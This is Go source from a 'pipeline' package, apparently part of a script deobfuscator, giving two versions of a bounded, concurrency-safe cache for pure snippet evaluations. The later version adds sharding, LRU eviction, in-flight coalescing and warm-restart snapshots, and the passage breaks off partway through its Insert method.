package pipeline

import (
	"sync"
)

// EvalOps is the value-handling surface of a language frontend the
// evaluation cache needs: a namespace (the frontend name, so identical
// snippet bytes under different languages can never share an entry), a
// deep copier, and a retained-size estimator. The full
// frontend.Frontend interface satisfies EvalOps.
type EvalOps interface {
	// Name identifies the language; it namespaces every entry key.
	Name() string
	// CopyValue returns a deep, unaliased copy of v, or false to refuse
	// the value (reference types that cannot be safely shared).
	CopyValue(v any) (any, bool)
	// ValueSize estimates v's retained size in bytes.
	ValueSize(v any) int
}

// Evaluation-cache bounds. The eval cache is smaller than the parse
// cache because each entry retains output values in addition to the
// snippet text, and because only pure runs (a minority on hostile
// corpora) are cacheable at all.
const (
	// DefaultEvalMaxEntries bounds the number of cached (snippet,
	// binding-set) results.
	DefaultEvalMaxEntries = 2048
	// DefaultEvalMaxBytes bounds the total retained bytes (snippet text
	// + binding fingerprints + estimated value sizes).
	DefaultEvalMaxBytes = 8 << 20
	// maxCacheableSnippet is the largest snippet worth caching; larger
	// evaluations are rare and would evict the whole working set.
	maxCacheableSnippet = 1 << 20
	// maxEntriesPerSnippet bounds how many distinct binding-sets are
	// retained for one snippet text, so a snippet evaluated under
	// ever-changing bindings cannot grow an unbounded chain.
	maxEntriesPerSnippet = 8
)

// Binding is one (variable, value-fingerprint) pair of an evaluation's
// environment fingerprint: the exact preloaded variables the run read,
// with a collision-free textual fingerprint of each value at read time.
// Bindings are recorded sorted by name (the frontend's read-set order)
// so entry comparison is a single ordered walk.
type Binding struct {
	// Name is the normalized (lower-cased, scope-stripped) variable name.
	Name string
	// FP fingerprints the value: type tag plus exact rendered value.
	// For the scalar types the deobfuscator preloads (strings and
	// numbers) the rendering is injective, so equal fingerprints imply
	// equal values — a fingerprint match can never replay a wrong
	// result, unlike a truncated hash.
	FP string
}

// evalEntry is one cached pure evaluation: the recorded read-set and
// the deep-copied output values. Entries are immutable after insert;
// lookups copy the values out again so no caller ever aliases them.
type evalEntry struct {
	lang     string
	bindings []Binding
	values   []any
	bytes    int64 // retained-size share charged to the cache budget
	snippet  string
}

// EvalCacheStats is a point-in-time snapshot of eval-cache
// effectiveness.
type EvalCacheStats struct {
	// Hits counts lookups answered from memory (interpreter runs saved).
	Hits int64
	// Misses counts lookups that had to evaluate.
	Misses int64
	// Skips counts evaluations that completed but were not cacheable
	// (impure, oversized, or holding uncopyable values).
	Skips int64
	// Evictions counts entries dropped to stay within bounds.
	Evictions int64
	// Entries is the current number of cached results.
	Entries int
	// Bytes is the current estimated retained size.
	Bytes int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic. Skips
// are excluded: an uncacheable evaluation is not a cache miss, it was
// never a candidate.
func (s EvalCacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// LangEvalStats is the per-language slice of an eval cache's traffic.
type LangEvalStats struct {
	// Hits / Misses / Skips count this language's evaluations only.
	Hits, Misses, Skips int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic.
func (s LangEvalStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// EvalCache memoizes the output values of pure, deterministic snippet
// evaluations, keyed by language plus exact snippet text plus the
// environment fingerprint (the sorted set of preloaded variables the
// run read and their values). It is the evaluation-phase sibling of
// the parse Cache: bounded (FIFO over both an entry count and a byte
// budget), safe for concurrent batch workers, and observed through
// per-run EvalViews so trace attribution stays exact.
//
// The cache itself is value-agnostic: each view carries its
// frontend's EvalOps (deep copier + sizer) so the pipeline package
// needs no knowledge of interpreter value types, and an entry's values
// are always copied by the same language's copier that inserted them
// (keys are language-namespaced). Values are deep-copied on insert AND
// on every hit, so a splice that later mutates a returned slice can
// never corrupt the cache or another run.
type EvalCache struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	buckets    map[uint64][]*evalEntry
	fifo       []*evalEntry

	hits, misses, skips, evictions int64
	perLang                        map[string]*LangEvalStats
}

// NewEvalCache returns an EvalCache bounded by maxEntries results and
// maxBytes of retained data. Non-positive bounds select the defaults.
// Value copying and sizing are supplied per view (EvalCache.View), so
// one shared cache can serve several language frontends.
func NewEvalCache(maxEntries int, maxBytes int64) *EvalCache {
	if maxEntries <= 0 {
		maxEntries = DefaultEvalMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = DefaultEvalMaxBytes
	}
	return &EvalCache{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		buckets:    make(map[uint64][]*evalEntry),
		perLang:    make(map[string]*LangEvalStats),
	}
}

// lookup finds a cached result for (lang, snippet) whose recorded
// bindings all match the currently visible values, returning deep
// copies of the cached output values.
func (c *EvalCache) lookup(ops EvalOps, snippet string, visible func(name string) (fp string, ok bool)) ([]any, bool) {
	if len(snippet) > maxCacheableSnippet {
		return nil, false
	}
	lang := ops.Name()
	key := hashKey(lang, snippet)
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, e := range c.buckets[key] {
		if e.lang != lang || e.snippet != snippet {
			continue
		}
		if !bindingsMatch(e.bindings, visible) {
			continue
		}
		out, ok := copyValues(ops, e.values)
		if !ok {
			// Cannot happen for values that passed insert's copier, but
			// degrade to a miss rather than trust it.
			continue
		}
		return out, true
	}
	return nil, false
}

// bindingsMatch reports whether every recorded (name, fingerprint)
// pair is still visible with an identical fingerprint. The determinism
// argument: a pure run's output is a function of (snippet text,
// values of the variables it read). If all recorded reads resolve to
// the same values now, a re-evaluation would read exactly the same
// variables and produce exactly the same output — variables the run
// never read cannot influence it.
func bindingsMatch(bindings []Binding, visible func(string) (string, bool)) bool {
	for _, b := range bindings {
		fp, ok := visible(b.Name)
		if !ok || fp != b.FP {
			return false
		}
	}
	return true
}

// copyValues deep-copies a cached value slice through the view's ops.
func copyValues(ops EvalOps, values []any) ([]any, bool) {
	if values == nil {
		return nil, true
	}
	out := make([]any, len(values))
	for i, v := range values {
		cp, ok := ops.CopyValue(v)
		if !ok {
			return nil, false
		}
		out[i] = cp
	}
	return out, true
}

// insert stores a pure evaluation result. The values are deep-copied
// before retention; values the copier refuses make the whole result
// uncacheable (recorded as a skip).
func (c *EvalCache) insert(ops EvalOps, snippet string, bindings []Binding, values []any) bool {
	lang := ops.Name()
	if len(snippet) > maxCacheableSnippet {
		c.recordSkip(lang)
		return false
	}
	var size int64 = int64(len(lang)+len(snippet)) + 64
	for _, b := range bindings {
		size += int64(len(b.Name) + len(b.FP) + 32)
	}
	// Preserve nil-ness: a nil output slice must replay as nil, not as
	// an empty non-nil slice, so replays are indistinguishable from
	// the original evaluation.
	var stored []any
	if values != nil {
		stored = make([]any, len(values))
		for i, v := range values {
			cp, ok := ops.CopyValue(v)
			if !ok {
				c.recordSkip(lang)
				return false
			}
			stored[i] = cp
			size += int64(ops.ValueSize(v))
		}
	}
	key := hashKey(lang, snippet)
	e := &evalEntry{lang: lang, snippet: snippet, bindings: bindings, values: stored, bytes: size}
	c.mu.Lock()
	defer c.mu.Unlock()
	// Dedup: a concurrent worker may have inserted the same result
	// already; cap per-snippet chains so one text cannot monopolize.
	same := 0
	for _, old := range c.buckets[key] {
		if old.lang != lang || old.snippet != snippet {
			continue
		}
		same++
		if equalBindings(old.bindings, bindings) {
			return true // already cached
		}
	}
	if same >= maxEntriesPerSnippet {
		c.skips++
		c.langStatsLocked(lang).Skips++
		return false
	}
	c.buckets[key] = append(c.buckets[key], e)
	c.fifo = append(c.fifo, e)
	c.bytes += size
	for (len(c.fifo) > c.maxEntries || c.bytes > c.maxBytes) && len(c.fifo) > 1 {
		c.evictOldestLocked()
	}
	return true
}

func equalBindings(a, b []Binding) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// evictOldestLocked drops the oldest entry. Callers hold c.mu.
func (c *EvalCache) evictOldestLocked() {
	victim := c.fifo[0]
	c.fifo = c.fifo[1:]
	key := hashKey(victim.lang, victim.snippet)
	bucket := c.buckets[key]
	for i, e := range bucket {
		if e == victim {
			c.buckets[key] = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(c.buckets[key]) == 0 {
		delete(c.buckets, key)
	}
	c.bytes -= victim.bytes
	c.evictions++
}

// langStatsLocked returns the per-language counter, creating it as
// needed. Callers hold c.mu.
func (c *EvalCache) langStatsLocked(lang string) *LangEvalStats {
	ls := c.perLang[lang]
	if ls == nil {
		ls = &LangEvalStats{}
		c.perLang[lang] = ls
	}
	return ls
}

func (c *EvalCache) recordSkip(lang string) {
	c.mu.Lock()
	c.skips++
	c.langStatsLocked(lang).Skips++
	c.mu.Unlock()
}

// Stats snapshots the eval-cache counters.
func (c *EvalCache) Stats() EvalCacheStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return EvalCacheStats{
		Hits:      c.hits,
		Misses:    c.misses,
		Skips:     c.skips,
		Evictions: c.evictions,
		Entries:   len(c.fifo),
		Bytes:     c.bytes,
	}
}

// LangStats snapshots the per-language hit/miss/skip counters.
func (c *EvalCache) LangStats() map[string]LangEvalStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string]LangEvalStats, len(c.perLang))
	for lang, ls := range c.perLang {
		out[lang] = *ls
	}
	return out
}

// View returns a per-run accounting window onto the shared cache bound
// to one frontend's value operations. A nil receiver yields a nil
// view, and every EvalView method accepts a nil receiver as "caching
// disabled" — callers need no branching.
func (c *EvalCache) View(ops EvalOps) *EvalView {
	if c == nil {
		return nil
	}
	return &EvalView{c: c, ops: ops}
}

// EvalView is a single-run window onto a shared EvalCache, counting
// this run's hits/misses/skips for exact per-run trace attribution.
// Not safe for concurrent use; each run owns its own.
type EvalView struct {
	c   *EvalCache
	ops EvalOps
	// Hits, Misses and Skips count this view's requests only.
	Hits, Misses, Skips int64
}

// Enabled reports whether a cache backs this view.
func (v *EvalView) Enabled() bool { return v != nil && v.c != nil && v.ops != nil }

// Cache returns the underlying shared cache (nil when disabled).
func (v *EvalView) Cache() *EvalCache {
	if v == nil {
		return nil
	}
	return v.c
}

// Lookup searches for a cached result of snippet under the currently
// visible bindings. visible maps a normalized variable name to its
// value fingerprint. On a hit the returned values are fresh deep
// copies owned by the caller. A miss is NOT counted here — the caller
// reports the evaluation's outcome through Miss or Skip so that
// uncacheable runs are attributed as skips, not misses.
func (v *EvalView) Lookup(snippet string, visible func(name string) (fp string, ok bool)) ([]any, bool) {
	if !v.Enabled() {
		return nil, false
	}
	out, ok := v.c.lookup(v.ops, snippet, visible)
	if ok {
		v.Hits++
		v.c.mu.Lock()
		v.c.hits++
		v.c.langStatsLocked(v.ops.Name()).Hits++
		v.c.mu.Unlock()
	}
	return out, ok
}

// Insert stores a pure evaluation result under (snippet, bindings) and
// counts the evaluation as a miss (the work happened; future lookups
// may hit).
func (v *EvalView) Insert(snippet string, bindings []Binding, values []any) {
	if !v.Enabled() {
		return
	}
	v.Misses++
	v.c.mu.Lock()
	v.c.misses++
	v.c.langStatsLocked(v.ops.Name()).Misses++
	v.c.mu.Unlock()
	v.c.insert(v.ops, snippet, bindings, values)
}

// Skip records an evaluation whose result must not be cached (impure,
// failed, or uncacheable values).
func (v *EvalView) Skip() {
	if !v.Enabled() {
		return
	}
	v.Skips++
	v.c.mu.Lock()
	v.c.skips++
	v.c.langStatsLocked(v.ops.Name()).Skips++
	v.c.mu.Unlock()
}
