package pipeline

import (
	"container/list"
	"context"
	"sync"
	"sync/atomic"
)

// EvalOps is the value-handling surface of a language frontend the
// evaluation cache needs: a namespace (the frontend name, so identical
// snippet bytes under different languages can never share an entry), a
// deep copier, and a retained-size estimator. The full
// frontend.Frontend interface satisfies EvalOps.
type EvalOps interface {
	// Name identifies the language; it namespaces every entry key.
	Name() string
	// CopyValue returns a deep, unaliased copy of v, or false to refuse
	// the value (reference types that cannot be safely shared).
	CopyValue(v any) (any, bool)
	// ValueSize estimates v's retained size in bytes.
	ValueSize(v any) int
}

// Evaluation-cache bounds. The eval cache is smaller than the parse
// cache because each entry retains output values in addition to the
// snippet text, and because only pure runs (a minority on hostile
// corpora) are cacheable at all.
const (
	// DefaultEvalMaxEntries bounds the number of cached (snippet,
	// binding-set) results.
	DefaultEvalMaxEntries = 2048
	// DefaultEvalMaxBytes bounds the total retained bytes (snippet text
	// + binding fingerprints + estimated value sizes).
	DefaultEvalMaxBytes = 8 << 20
	// maxCacheableSnippet is the largest snippet worth caching; larger
	// evaluations are rare and would evict the whole working set.
	maxCacheableSnippet = 1 << 20
	// maxEntriesPerSnippet bounds how many distinct binding-sets are
	// retained for one snippet text, so a snippet evaluated under
	// ever-changing bindings cannot grow an unbounded chain.
	maxEntriesPerSnippet = 8
)

// Binding is one (variable, value-fingerprint) pair of an evaluation's
// environment fingerprint: the exact preloaded variables the run read,
// with a collision-free textual fingerprint of each value at read time.
// Bindings are recorded sorted by name (the frontend's read-set order)
// so entry comparison is a single ordered walk.
type Binding struct {
	// Name is the normalized (lower-cased, scope-stripped) variable name.
	Name string
	// FP fingerprints the value: type tag plus exact rendered value.
	// For the scalar types the deobfuscator preloads (strings and
	// numbers) the rendering is injective, so equal fingerprints imply
	// equal values — a fingerprint match can never replay a wrong
	// result, unlike a truncated hash.
	FP string
}

// evalEntry is one cached pure evaluation: the recorded read-set and
// the deep-copied output values. Entries are immutable after insert;
// lookups copy the values out again so no caller ever aliases them.
type evalEntry struct {
	lang     string
	bindings []Binding
	values   []any
	bytes    int64 // retained-size share charged to the cache budget
	snippet  string
	// warm marks an entry preloaded from a warm-restart snapshot; hits
	// on it are counted separately as WarmHits.
	warm bool
	// elem is the entry's node in its shard's LRU list (guarded by the
	// shard lock).
	elem *list.Element
}

// EvalCacheStats is a point-in-time snapshot of eval-cache
// effectiveness.
type EvalCacheStats struct {
	// Hits counts lookups answered from memory (interpreter runs saved).
	Hits int64
	// Misses counts lookups that had to evaluate.
	Misses int64
	// Skips counts evaluations that completed but were not cacheable
	// (impure, oversized, or holding uncopyable values).
	Skips int64
	// Evictions counts entries dropped to stay within bounds.
	Evictions int64
	// Entries is the current number of cached results.
	Entries int
	// Bytes is the current estimated retained size.
	Bytes int64
	// Shards is the number of independent lock stripes.
	Shards int
	// CoalescedWaits counts evaluations that blocked on another run's
	// in-flight evaluation of the same snippet instead of racing a
	// duplicate through the interpreter.
	CoalescedWaits int64
	// Warmed counts entries preloaded from a warm-restart snapshot.
	Warmed int64
	// WarmHits counts hits served by snapshot-preloaded entries.
	WarmHits int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic. Skips
// are excluded: an uncacheable evaluation is not a cache miss, it was
// never a candidate.
func (s EvalCacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// LangEvalStats is the per-language slice of an eval cache's traffic.
type LangEvalStats struct {
	// Hits / Misses / Skips count this language's evaluations only.
	Hits, Misses, Skips int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic.
func (s LangEvalStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// evalShard is one independent stripe of the eval cache: its own lock,
// buckets, LRU list, byte budget and counters.
type evalShard struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	buckets    map[uint64][]*evalEntry
	lru        *list.List // front = most recently used

	hits, misses, skips, evictions int64
	perLang                        map[string]*LangEvalStats
}

func newEvalShard(maxEntries int, maxBytes int64) *evalShard {
	return &evalShard{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		buckets:    make(map[uint64][]*evalEntry),
		lru:        list.New(),
		perLang:    make(map[string]*LangEvalStats),
	}
}

// evalFlightKey identifies one in-flight evaluation for coalescing.
// Coalescing is keyed on (language, snippet) alone — the environment
// fingerprint is only discovered *during* evaluation (the read-set is
// an output, not an input), so followers wait for the leader and then
// re-check the cache under their own visible bindings; a binding
// mismatch simply promotes the follower to the next leader.
type evalFlightKey struct {
	lang    string
	snippet string
}

// evalFlight is one in-flight evaluation; done is closed when the
// leader resolves (insert, skip or abort), after which followers
// re-lookup.
type evalFlight struct {
	done chan struct{}
}

// EvalCache memoizes the output values of pure, deterministic snippet
// evaluations, keyed by language plus exact snippet text plus the
// environment fingerprint (the sorted set of preloaded variables the
// run read and their values). It is the evaluation-phase sibling of
// the parse Cache: bounded (per-shard LRU over both an entry count and
// a byte budget), safe for concurrent batch workers, and observed
// through per-run EvalViews so trace attribution stays exact. Like the
// parse cache it is striped by content hash across power-of-two
// shards, and Acquire coalesces concurrent evaluations of the same
// (language, snippet) so a wave of identical scripts costs one
// interpreter run.
//
// The cache itself is value-agnostic: each view carries its
// frontend's EvalOps (deep copier + sizer) so the pipeline package
// needs no knowledge of interpreter value types, and an entry's values
// are always copied by the same language's copier that inserted them
// (keys are language-namespaced). Values are deep-copied on insert AND
// on every hit, so a splice that later mutates a returned slice can
// never corrupt the cache or another run.
type EvalCache struct {
	shards    []*evalShard
	shardMask uint64

	flightMu sync.Mutex
	flights  map[evalFlightKey]*evalFlight

	coalescedWaits atomic.Int64
	warmed         atomic.Int64
	warmHits       atomic.Int64
}

// NewEvalCache returns an EvalCache bounded by maxEntries results and
// maxBytes of retained data, striped across the default
// GOMAXPROCS-scaled shard count. Non-positive bounds select the
// defaults. Value copying and sizing are supplied per view
// (EvalCache.View), so one shared cache can serve several language
// frontends.
func NewEvalCache(maxEntries int, maxBytes int64) *EvalCache {
	return NewEvalCacheSharded(maxEntries, maxBytes, 0)
}

// NewEvalCacheSharded is NewEvalCache with an explicit shard count
// (same resolution rules as NewCacheSharded; 1 reproduces the
// historical single-mutex cache).
func NewEvalCacheSharded(maxEntries int, maxBytes int64, shards int) *EvalCache {
	if maxEntries <= 0 {
		maxEntries = DefaultEvalMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = DefaultEvalMaxBytes
	}
	n := shardCount(shards, maxEntries, maxBytes)
	c := &EvalCache{
		shards:    make([]*evalShard, n),
		shardMask: uint64(n - 1),
		flights:   make(map[evalFlightKey]*evalFlight),
	}
	perEntries := maxEntries / n
	if perEntries < 1 {
		perEntries = 1
	}
	perBytes := maxBytes / int64(n)
	if perBytes < 1 {
		perBytes = 1
	}
	for i := range c.shards {
		c.shards[i] = newEvalShard(perEntries, perBytes)
	}
	return c
}

// shard returns the stripe owning key.
func (c *EvalCache) shard(key uint64) *evalShard { return c.shards[key&c.shardMask] }

// statsShard returns the stripe that accumulates a language's
// view-level hit/miss/skip observations (stable per language; Stats
// and LangStats sum across shards, so placement is an implementation
// detail).
func (c *EvalCache) statsShard(lang string) *evalShard {
	return c.shards[hashKey(lang, "")&c.shardMask]
}

// ShardCount reports the number of lock stripes.
func (c *EvalCache) ShardCount() int { return len(c.shards) }

// lookup finds a cached result for (lang, snippet) whose recorded
// bindings all match the currently visible values, returning deep
// copies of the cached output values. warm reports a hit on a
// snapshot-preloaded entry.
func (c *EvalCache) lookup(ops EvalOps, snippet string, visible func(name string) (fp string, ok bool)) (out []any, warm, ok bool) {
	if len(snippet) > maxCacheableSnippet {
		return nil, false, false
	}
	lang := ops.Name()
	key := hashKey(lang, snippet)
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	for _, e := range sh.buckets[key] {
		if e.lang != lang || e.snippet != snippet {
			continue
		}
		if !bindingsMatch(e.bindings, visible) {
			continue
		}
		out, copied := copyValues(ops, e.values)
		if !copied {
			// Cannot happen for values that passed insert's copier, but
			// degrade to a miss rather than trust it.
			continue
		}
		sh.lru.MoveToFront(e.elem)
		return out, e.warm, true
	}
	return nil, false, false
}

// bindingsMatch reports whether every recorded (name, fingerprint)
// pair is still visible with an identical fingerprint. The determinism
// argument: a pure run's output is a function of (snippet text,
// values of the variables it read). If all recorded reads resolve to
// the same values now, a re-evaluation would read exactly the same
// variables and produce exactly the same output — variables the run
// never read cannot influence it.
func bindingsMatch(bindings []Binding, visible func(string) (string, bool)) bool {
	for _, b := range bindings {
		fp, ok := visible(b.Name)
		if !ok || fp != b.FP {
			return false
		}
	}
	return true
}

// copyValues deep-copies a cached value slice through the view's ops.
func copyValues(ops EvalOps, values []any) ([]any, bool) {
	if values == nil {
		return nil, true
	}
	out := make([]any, len(values))
	for i, v := range values {
		cp, ok := ops.CopyValue(v)
		if !ok {
			return nil, false
		}
		out[i] = cp
	}
	return out, true
}

// insert stores a pure evaluation result. The values are deep-copied
// before retention; values the copier refuses make the whole result
// uncacheable (recorded as a skip).
func (c *EvalCache) insert(ops EvalOps, snippet string, bindings []Binding, values []any) bool {
	return c.insertEntry(ops, snippet, bindings, values, false)
}

func (c *EvalCache) insertEntry(ops EvalOps, snippet string, bindings []Binding, values []any, warm bool) bool {
	lang := ops.Name()
	if len(snippet) > maxCacheableSnippet {
		c.recordSkip(lang)
		return false
	}
	var size int64 = int64(len(lang)+len(snippet)) + 64
	for _, b := range bindings {
		size += int64(len(b.Name) + len(b.FP) + 32)
	}
	// Preserve nil-ness: a nil output slice must replay as nil, not as
	// an empty non-nil slice, so replays are indistinguishable from
	// the original evaluation.
	var stored []any
	if values != nil {
		stored = make([]any, len(values))
		for i, v := range values {
			cp, ok := ops.CopyValue(v)
			if !ok {
				c.recordSkip(lang)
				return false
			}
			stored[i] = cp
			size += int64(ops.ValueSize(v))
		}
	}
	key := hashKey(lang, snippet)
	e := &evalEntry{lang: lang, snippet: snippet, bindings: bindings, values: stored, bytes: size, warm: warm}
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	// Dedup: a concurrent worker may have inserted the same result
	// already; cap per-snippet chains so one text cannot monopolize.
	same := 0
	for _, old := range sh.buckets[key] {
		if old.lang != lang || old.snippet != snippet {
			continue
		}
		same++
		if equalBindings(old.bindings, bindings) {
			return true // already cached
		}
	}
	if same >= maxEntriesPerSnippet {
		sh.skips++
		sh.langStatsLocked(lang).Skips++
		return false
	}
	sh.buckets[key] = append(sh.buckets[key], e)
	e.elem = sh.lru.PushFront(e)
	sh.bytes += size
	for (sh.lru.Len() > sh.maxEntries || sh.bytes > sh.maxBytes) && sh.lru.Len() > 1 {
		sh.evictOldestLocked()
	}
	return true
}

func equalBindings(a, b []Binding) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// evictOldestLocked drops the least-recently-used entry. Callers hold
// sh.mu.
func (sh *evalShard) evictOldestLocked() {
	back := sh.lru.Back()
	if back == nil {
		return
	}
	victim := sh.lru.Remove(back).(*evalEntry)
	key := hashKey(victim.lang, victim.snippet)
	bucket := sh.buckets[key]
	for i, e := range bucket {
		if e == victim {
			sh.buckets[key] = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(sh.buckets[key]) == 0 {
		delete(sh.buckets, key)
	}
	sh.bytes -= victim.bytes
	sh.evictions++
}

// langStatsLocked returns the per-language counter, creating it as
// needed. Callers hold sh.mu.
func (sh *evalShard) langStatsLocked(lang string) *LangEvalStats {
	ls := sh.perLang[lang]
	if ls == nil {
		ls = &LangEvalStats{}
		sh.perLang[lang] = ls
	}
	return ls
}

func (c *EvalCache) recordSkip(lang string) {
	sh := c.statsShard(lang)
	sh.mu.Lock()
	sh.skips++
	sh.langStatsLocked(lang).Skips++
	sh.mu.Unlock()
}

// PreloadEval inserts a snapshot-derived zero-binding result, flagged
// warm. Unlike Insert it records neither a hit nor a miss (a restart
// is not traffic). Only environment-independent results are ever
// preloaded: a snapshot carries no binding environment, so results
// whose replay depends on one cannot be safely re-derived at load.
func (c *EvalCache) PreloadEval(ops EvalOps, snippet string, values []any) bool {
	if c == nil || ops == nil {
		return false
	}
	if !c.insertEntry(ops, snippet, nil, values, true) {
		return false
	}
	c.warmed.Add(1)
	return true
}

// SnapshotSnippets returns the (language, snippet) pairs of every
// cached zero-binding result, oldest first per shard, for warm-restart
// persistence. Entries with binding fingerprints are excluded: their
// replay depends on an environment the snapshot does not carry.
func (c *EvalCache) SnapshotSnippets() []SnapshotEntry {
	var out []SnapshotEntry
	for _, sh := range c.shards {
		sh.mu.Lock()
		for el := sh.lru.Back(); el != nil; el = el.Prev() {
			e := el.Value.(*evalEntry)
			if len(e.bindings) == 0 {
				out = append(out, SnapshotEntry{Lang: e.lang, Text: e.snippet})
			}
		}
		sh.mu.Unlock()
	}
	return out
}

// Stats snapshots the eval-cache counters, summed across shards.
func (c *EvalCache) Stats() EvalCacheStats {
	st := EvalCacheStats{
		Shards:         len(c.shards),
		CoalescedWaits: c.coalescedWaits.Load(),
		Warmed:         c.warmed.Load(),
		WarmHits:       c.warmHits.Load(),
	}
	for _, sh := range c.shards {
		sh.mu.Lock()
		st.Hits += sh.hits
		st.Misses += sh.misses
		st.Skips += sh.skips
		st.Evictions += sh.evictions
		st.Entries += sh.lru.Len()
		st.Bytes += sh.bytes
		sh.mu.Unlock()
	}
	return st
}

// ShardOccupancy reports the current entry count of every shard.
func (c *EvalCache) ShardOccupancy() []int {
	out := make([]int, len(c.shards))
	for i, sh := range c.shards {
		sh.mu.Lock()
		out[i] = sh.lru.Len()
		sh.mu.Unlock()
	}
	return out
}

// LangStats snapshots the per-language hit/miss/skip counters, summed
// across shards.
func (c *EvalCache) LangStats() map[string]LangEvalStats {
	out := make(map[string]LangEvalStats)
	for _, sh := range c.shards {
		sh.mu.Lock()
		for lang, ls := range sh.perLang {
			agg := out[lang]
			agg.Hits += ls.Hits
			agg.Misses += ls.Misses
			agg.Skips += ls.Skips
			out[lang] = agg
		}
		sh.mu.Unlock()
	}
	return out
}

// View returns a per-run accounting window onto the shared cache bound
// to one frontend's value operations. A nil receiver yields a nil
// view, and every EvalView method accepts a nil receiver as "caching
// disabled" — callers need no branching.
func (c *EvalCache) View(ops EvalOps) *EvalView {
	if c == nil {
		return nil
	}
	return &EvalView{c: c, ops: ops}
}

// EvalView is a single-run window onto a shared EvalCache, counting
// this run's hits/misses/skips for exact per-run trace attribution.
// Not safe for concurrent use; each run owns its own.
type EvalView struct {
	c   *EvalCache
	ops EvalOps
	// Hits, Misses and Skips count this view's requests only.
	Hits, Misses, Skips int64
}

// Enabled reports whether a cache backs this view.
func (v *EvalView) Enabled() bool { return v != nil && v.c != nil && v.ops != nil }

// Cache returns the underlying shared cache (nil when disabled).
func (v *EvalView) Cache() *EvalCache {
	if v == nil {
		return nil
	}
	return v.c
}

// Fork returns a fresh view onto the same cache and ops with zeroed
// counters (nil for a nil receiver, preserving "caching disabled").
// Parallel piece workers each fork the run's view — EvalView counters
// are not concurrency-safe — and the caller merges the forks'
// hits/misses/skips back after the workers join.
func (v *EvalView) Fork() *EvalView {
	if v == nil {
		return nil
	}
	return &EvalView{c: v.c, ops: v.ops}
}

func (v *EvalView) recordHit(warm bool) {
	v.Hits++
	lang := v.ops.Name()
	sh := v.c.statsShard(lang)
	sh.mu.Lock()
	sh.hits++
	sh.langStatsLocked(lang).Hits++
	sh.mu.Unlock()
	if warm {
		v.c.warmHits.Add(1)
	}
}

// Lookup searches for a cached result of snippet under the currently
// visible bindings. visible maps a normalized variable name to its
// value fingerprint. On a hit the returned values are fresh deep
// copies owned by the caller. A miss is NOT counted here — the caller
// reports the evaluation's outcome through Insert or Skip so that
// uncacheable runs are attributed as skips, not misses.
func (v *EvalView) Lookup(snippet string, visible func(name string) (fp string, ok bool)) ([]any, bool) {
	if !v.Enabled() {
		return nil, false
	}
	out, warm, ok := v.c.lookup(v.ops, snippet, visible)
	if ok {
		v.recordHit(warm)
	}
	return out, ok
}

// Acquire is Lookup plus singleflight coalescing: on a miss it either
// claims leadership of the (language, snippet) evaluation — returning
// a non-nil ticket the caller MUST resolve via Insert, Skip or Abort —
// or blocks until the current leader resolves and re-checks the cache.
//
// Followers never inherit the leader's outcome. When a leader aborts,
// skips, or is canceled by its own envelope, its flight resolves
// without publishing and each waiter re-looks-up: a binding mismatch
// or absent entry simply promotes the next waiter to leader, so one
// request's deadline/cancel/panic can never surface as another
// request's taxonomy error. If ctx is done while waiting, Acquire
// stops waiting and returns a non-coalescing ticket (flight-less):
// the caller evaluates under its own envelope and any cancellation
// error is attributed to itself — a queued request that wins admission
// after its leader was canceled retries the work, it does not inherit
// ErrCanceled.
//
// On a disabled view Acquire returns (nil, false, nil); the nil ticket
// is safe to resolve.
func (v *EvalView) Acquire(ctx context.Context, snippet string, visible func(name string) (fp string, ok bool)) ([]any, bool, *EvalTicket) {
	if !v.Enabled() {
		return nil, false, nil
	}
	if len(snippet) > maxCacheableSnippet {
		// Oversize snippets are never cached, so coalescing would hold
		// a flight nothing can resolve into a hit; evaluate directly.
		return nil, false, &EvalTicket{v: v, snippet: snippet}
	}
	key := evalFlightKey{lang: v.ops.Name(), snippet: snippet}
	for {
		if out, warm, ok := v.c.lookup(v.ops, snippet, visible); ok {
			v.recordHit(warm)
			return out, true, nil
		}
		v.c.flightMu.Lock()
		f := v.c.flights[key]
		if f == nil {
			f = &evalFlight{done: make(chan struct{})}
			v.c.flights[key] = f
			v.c.flightMu.Unlock()
			return nil, false, &EvalTicket{v: v, snippet: snippet, key: key, flight: f}
		}
		v.c.flightMu.Unlock()
		v.c.coalescedWaits.Add(1)
		select {
		case <-f.done:
			// Leader resolved; loop to re-check the cache (or claim the
			// next leadership on a mismatch).
		case <-ctx.Done():
			return nil, false, &EvalTicket{v: v, snippet: snippet}
		}
	}
}

// Insert stores a pure evaluation result under (snippet, bindings) and
// counts the evaluation as a miss (the work happened; future lookups
// may hit).
func (v *EvalView) Insert(snippet string, bindings []Binding, values []any) {
	if !v.Enabled() {
		return
	}
	v.Misses++
	lang := v.ops.Name()
	sh := v.c.statsShard(lang)
	sh.mu.Lock()
	sh.misses++
